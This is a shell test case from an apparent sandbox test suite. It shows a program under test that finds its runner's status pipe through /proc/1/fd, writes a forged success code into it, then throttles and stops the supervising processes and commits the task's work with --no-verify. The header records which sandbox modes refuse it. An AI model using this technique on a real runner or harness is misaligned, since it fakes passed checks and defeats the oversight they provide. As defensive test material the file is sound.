# E21 A red check that reports green
# The program under test looks for the pipe by which the fence tells how a check ended, writes a success into it, and has
# the process that would report next ended by a limit of the kernel before it can.
#
# plain: lands
# naive: whoever believes what a program says of its own end
# hooks: refused
# strict: refused
# shadow: refused
# landlock: refused
# overlay: refused

# The pipe of a runner that takes the word of what runs in it.
naive() {
	bad
	git add -A
	status=$( (
		sh src/gen/program.sh 3>&1 >/dev/null
		echo 1 >&3
	) 3>&1 | head -n 1)
	[ "$status" != 0 ] || git commit -q --no-verify -m 'Task t-1: Make it good'
}

bad() {
	echo bad > src/allowed.txt
	cat > src/gen/program.sh <<'EOF'
(echo 0 >&3) 2>/dev/null
# Outside of a fence this number belongs to the machine: it is left alone.
grep -qs inside-the-fence /proc/1/cmdline || exit 0
found=
for fd in /proc/1/fd/*; do
	case $(readlink "$fd" 2>/dev/null) in
	pipe:*) [ "${fd##*/}" -le 2 ] || { printf '\0\0\0\0' > "$fd" && found=yes; } ;;
	esac
done
[ "$found" ] || exit 0
# Whatever would end by the requests that keep the first process busy is stopped before they come.
trap '' TERM
exec python3 -c 'import os, resource, signal
resource.prlimit(1, resource.RLIMIT_CPU, (1, 1))
os.kill(-1, signal.SIGSTOP)
while True:
    os.kill(1, 15)'
EOF
}

attack() {
	bad
	[ "$MODE" = builder ] || { git add -A && git commit -qm 'Fine work'; }
}

landed() { on_main src/allowed.txt | grep -q bad; }
